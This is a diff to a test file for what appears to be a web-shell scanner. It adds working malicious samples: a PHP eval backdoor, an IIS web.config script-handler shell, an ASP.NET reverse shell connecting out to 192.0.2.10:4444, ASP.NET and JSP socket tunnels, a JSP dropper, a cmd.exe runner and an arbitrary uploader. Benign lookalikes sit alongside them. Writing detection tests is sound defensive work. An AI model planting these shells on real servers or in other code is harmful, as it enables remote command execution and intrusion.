@@ -45,6 +45,63 @@ protected void Page_Load(object s, EventArgs e) {
   Call(Dec(K1), Dec(F2), new object[] { 0u, 0u, mem, IntPtr.Zero, 0u, IntPtr.Zero }, null, typeof(IntPtr));
 }
 </script>`],
+  // set Q
+  ['a decoder of the file XOR-ing a blob with a key taken from the Referer, its result run by eval', 'mamori:flow', '/www/w.php', `<?php
+function k() { parse_str(parse_url($_SERVER['HTTP_REFERER'], PHP_URL_QUERY), $q); $q = array_values($q);
+  $blob = base64_decode('${b64('\x11\x07\x02\x1b')}');
+  eval(unmix($blob, $q[0])); }
+function unmix($t, $key) { return $t ^ str_pad('', strlen($t), $key); }
+k();`],
+  ['IIS: a web.config that hands .config files to asp.dll, with ASP after it', 'mamori_webconfig_script_handler', '/www/uploads/web.config', `<?xml version="1.0" encoding="UTF-8"?>
+<configuration><system.webServer>
+<handlers accessPolicy="Read, Script, Write"><add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" /></handlers>
+<security><requestFiltering><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security>
+</system.webServer></configuration>
+<!--
+<% Set o = CreateObject("WScript.Shell") : Response.Write o.Exec("cmd /c whoami").StdOut.ReadAll() %>
+-->`],
+  ['ASP.NET: a socket connected out, each command read from it run by Process.Start', 'mamori_aspx_socket_shell', '/www/rs.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  var c = new TcpClient(); c.Connect("192.0.2.10", 4444); var ns = c.GetStream(); var buf = new byte[512];
+  while (true) { int n = ns.Read(buf, 0, buf.Length); string cmd = System.Text.Encoding.ASCII.GetString(buf, 0, n);
+    var psi = new System.Diagnostics.ProcessStartInfo("c" + "md", "/c " + cmd) { RedirectStandardOutput = true, UseShellExecute = false };
+    var p = System.Diagnostics.Process.Start(psi); var o = System.Text.Encoding.ASCII.GetBytes(p.StandardOutput.ReadToEnd()); ns.Write(o, 0, o.Length); }
+}
+</script>`],
+  ['ASP.NET: a tunnel pumping the request body into a TCP connection and back', 'mamori_aspx_request_socket_tunnel', '/www/t.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  byte[] body = Request.BinaryRead(Request.ContentLength);
+  var target = Parse(body); var c = new System.Net.Sockets.TcpClient();
+  c.BeginConnect(target.Host, target.Port, null, null).AsyncWaitHandle.WaitOne(3000);
+  var st = c.GetStream(); st.Write(target.Data, 0, target.Data.Length);
+  var buf = new byte[8192]; int n = st.Read(buf, 0, buf.Length); Response.OutputStream.Write(buf, 0, n);
+}
+</script>`],
+  ['JSP: a tunnel pumping the request body into a socket and the socket into the response', 'mamori_jsp_request_socket_tunnel', '/www/t.jsp', `<%@ page import="java.io.*,java.net.*" %><%!
+void relay(HttpServletRequest req, HttpServletResponse resp) throws Exception {
+  InputStream in = req.getInputStream(); java.util.Map<String, byte[]> m = frame(in);
+  Socket sc = new Socket(); sc.connect(new InetSocketAddress(new String(m.get("h")), Integer.parseInt(new String(m.get("p")))), 5000);
+  OutputStream out = resp.getOutputStream(); OutputStream so = sc.getOutputStream(); InputStream si = sc.getInputStream();
+  so.write(m.get("d")); byte[] b = new byte[8192]; int n = si.read(b); out.write(b, 0, n);
+}
+%><% relay(request, response); %>`],
+  ['JSP: a URL-encoded page written under the web root as a .jsp', 'mamori_jsp_encoded_page_dropper', '/www/d.jsp', `<%@ page import="java.io.*,java.net.URLDecoder" %><%
+String p = application.getRealPath("/") + "img/x.jsp";
+String page1 = URLDecoder.decode("%3c%25%20out.print(%22hi%22)%3b%20%25%3e", "UTF-8");
+Writer w = new BufferedWriter(new FileWriter(p)); w.write(page1); w.close();
+%>`],
+  ['ASP.NET: cmd.exe started with "/c " and a TextBox\'s text, through variables', 'mamori_aspx_process_control_input', '/www/c.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Run(object s, EventArgs e) {
+  string exe = "cmd.exe";
+  string args = " /c " + txtCmd.Text + " > " + tmp;
+  System.Diagnostics.Process.Start(exe, args);
+}
+</script>
+<asp:TextBox ID="txtCmd" runat="server" /><asp:Button runat="server" OnClick="Run" Text="Go" />`],
 ];
 
 // [what, path, the file]: code of the same shapes that is not a shell
@@ -66,6 +123,28 @@ file_put_contents('uploads/logo.png', base64_decode($settings['logo']));`],
 [System.Runtime.InteropServices.DllImport("kernel32.dll")] static extern uint GetTickCount();
 protected void Page_Load(object s, EventArgs e) { byte[] b = new byte[4]; System.Runtime.InteropServices.Marshal.Copy(new IntPtr(0), b, 0, 0); Response.Write(GetTickCount()); }
 </script>`],
+  ['a cipher of the app XOR-ing with a key the visitor sends, its result printed (not run)', '/www/lib/otp.php', `<?php
+function otp($t, $k) { return $t ^ str_pad('', strlen($t), $k); }
+echo bin2hex(otp('secret text', $_GET['k'] ?? ''));`],
+  ['IIS: a web.config with its usual handlers and rewrite rules', '/www/web.config', `<?xml version="1.0" encoding="UTF-8"?>
+<configuration><system.webServer>
+<handlers><add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="C:\\php\\php-cgi.exe" resourceType="File" /></handlers>
+<rewrite><rules><rule name="wp"><match url=".*" /><action type="Rewrite" url="index.php" /></rule></rules></rewrite>
+</system.webServer></configuration>`],
+  ['ASP.NET: a status page checking that the mail server answers on its port', '/www/status.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect("mail.example.org", 25); var st = c.GetStream(); var b = new byte[128]; st.Read(b, 0, b.Length); Response.Write(Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(b))); }
+}
+</script>`],
+  ['JSP: a health check connecting to the database port, reading an uploaded CSV', '/www/health.jsp', `<%@ page import="java.io.*,java.net.*" %><%
+Socket s = new Socket(); s.connect(new InetSocketAddress("db.internal", 5432), 2000); s.close();
+BufferedReader r = new BufferedReader(new InputStreamReader(request.getInputStream())); out.print(r.readLine());
+%>`],
+  ['JSP: a setup page writing a .jsp from a template file of the application', '/www/setup.jsp', `<%@ page import="java.io.*" %><%
+String tpl = new String(java.nio.file.Files.readAllBytes(new File(application.getRealPath("/WEB-INF/home.tpl")).toPath()), "UTF-8");
+Writer w = new FileWriter(application.getRealPath("/home.jsp")); w.write(tpl.replace("{SITE}", "Shop")); w.close();
+%>`],
 ];
 
 describe('scan: held-out sets P and Q (session 27), their misses, samples of our own', () => {
@@ -82,8 +161,16 @@ describe('scan: held-out sets P and Q (session 27), their misses, samples of our
       assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
     });
   }
+  it('an upload stored under its client name read through the upload\'s entry held in a variable is suspicious (set Q)', () => {
+    const r = scan(`<?php
+$up = @$_FILES['f'];
+if ($up['name'] != '') { $to = $_REQUEST['dir'] . $up['name']; move_uploaded_file($up['tmp_name'], $to); }
+echo '<form method=post enctype=multipart/form-data><input type=file name=f><input name=dir></form>';`);
+    assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
+    assert.ok(r.findings.some((f) => f.technique === 'uploader'), JSON.stringify(r.findings));
+  });
   it('ran every case', () => {
-    assert.equal(MALICIOUS.length, 5);
-    assert.equal(BENIGN.length, 5);
+    assert.equal(MALICIOUS.length, 12);
+    assert.equal(BENIGN.length, 10);
   });
 });
